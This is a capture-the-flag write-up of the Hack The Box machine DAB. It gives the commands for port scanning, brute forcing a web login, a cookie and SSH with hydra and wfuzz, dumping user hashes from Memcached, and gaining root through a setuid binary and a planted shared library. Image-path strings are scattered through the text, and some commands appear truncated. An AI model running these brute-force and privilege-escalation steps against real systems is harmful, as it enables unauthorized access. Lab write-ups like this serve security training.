Hello, Hackers !!

In this blog post, we gonna solve the CTF Challenge DAB presented by Hack the box. DAB is a very interesting Challenge and its ratings seem good and also the level of difficulty is 7/8 out of 10.


  • About Box
  • Enumeration
    • Port Scanning
    • Enumeration on port 80 (HTTP Service)
      • Brute Forcing Login• Enumeration on port 8080 (HTTP Service)
      • Cookies Brute Forcing
  • Exploiting SSH
  • Post Enumeration
  • Privilege Escalation

About Box

Level: Intermediate
OS: Linux
IP Address:Lets get Start!!!


Let’s start with post scanning

Nmap Port Scanning



(This will scan for top 1000 ports)

Nmap Aggressive and Service Version scan (to get more detailed information).


nmap -sV -A

Enumerating Port 80 (HTTP Service)

Now, Their is a HTTP service on port 80. when i visit, i found login page.


Scanning port 80 with nikto tool.


nikto -hTried some default credentials and some SQL tricks but no luck. after that I decided to brute-force the login with hydra.


hydra -l admin -P /usr/share/wordlists/rockyou.txt http-post-form '/login:username=^USER^&password=^PASS^&submit=Login:F=Error' -vV -t 50

and successfully got the user and pass.Username: admin
Password: Password1

Time to get login.

nothing interesting

So, I just stop enumerating here and take a look on port 8080 which is another HTTP service port.

Enumeration on port 8080 (HTTP Service)

Lets try on port 8080.


So, I used to brute-force cookie password with wfuzz.
(Note: you can use rockyou.txt also , in my case I just copied rockyou.txt in tmp as test.txt)

Cool now we have the cookie which we have to set.

It time to use burp.

the second aprt shows that we have successfully implemented the cookie.

Now the form ask to send some packet to and port.

Send packet to any internal port.Here, I intercept a command.

Now the task here is to find the open ports in the network for that i am going to use Wfuzz again.


wfuzz -c -z range,1-65535 --sc 200 ""

So, PORT: 22,80,8080,11211,37768,21 are open and from outside can’t access 11211,37768 lets try.

After a search i found that the port 11211 is used for Memcached and it we can get some details from it with commands.here i found some commands: https://github.com/memcached/memcached/wiki/Commands

The interesting command i found here is stats slabs after trying that i got some cached info.

Now, I need to retrieve the cache-dump of the following slabs 16 and 26.

Stats cachedump command

Command : stats cachedump <slabs_id> <limit>\r\n

Parameters :

  • <slabs_id> : slab id from where you want to retrieve the keys
  • <limit> : result limit, 0 mean no limit

So i used the following command

stats cachedump 26 0

found an interesting Item users :).

lets see what this ITEM contains. (Note: It is necessary to logged in on port 80 (admin:Password1 #hydra) for this query)


get users

found lots of users with their MD5 hash

cracked hashes with the help of hashcat and place users in a file and passwords in another file then used hydra to bruteforce on port 22 to gtet valid credentials.


hydra -L users.txt -P password.txt ssh -t 50

Successfully found credentials for ssh.


Let’s connect with SSH.

login: genevievepassword: Princess1


ssh [email protected]

here is the user.txt

PostExploitation/ Privilege Escalation

Now, It’s time to escalate privileges and get root.txtAfter enumerating. I found an interesting binarynamed myexec.

This Binary have setuid bit , Means if we can pwn this binary then get root privilege on the machine.

find / -user root -perm -4000 -print 2>/dev/null | xargs ls -la

and write access to a library directory.


lets see what myexec has for us.


file /usr/bin/myexec


ltrace /usr/bin/myexeWow! we got the pass for the application.

Password: s3cur3l0gi

let’s try the application with the password.

this application needs a function named seclogin() which is missing.

Excalating Privilege using LD_PRELOAD

This can be beneficial for us  here write permission on ld.so.conf.d directory can be helpful for us. after some searches, I found a way to exploit with this write permission.here: http://touhidshaikh.com/blog/?p=827

So I created a C Program file which can be compile using GCC and if loaded with myexec can relate to privilege escalation.

[email protected]:/tmp$ cat libseclogin.c
void seclogin() {

compiled with GCC compiled on DAB. place the file in the ld.so.conf.d.


gcc -fPIC -shared -o libseclogin.so libseclogin.c -nostartfiles

updated the library, then execute myexec withthe file compiled in ld.so.conf.d.


[email protected]:/etc/ld.so.conf.d$ ldconfig /lib
[email protected]:/etc/ld.so.conf.d$ LD_PRELOAD="./libseclogin.so" /usr/bin/myexec

Congrats we are root !

Thank you for reading. If you have any issue.just drop a comment below 😉

Leave a Reply

Your email address will not bepublished. Required fields are marked *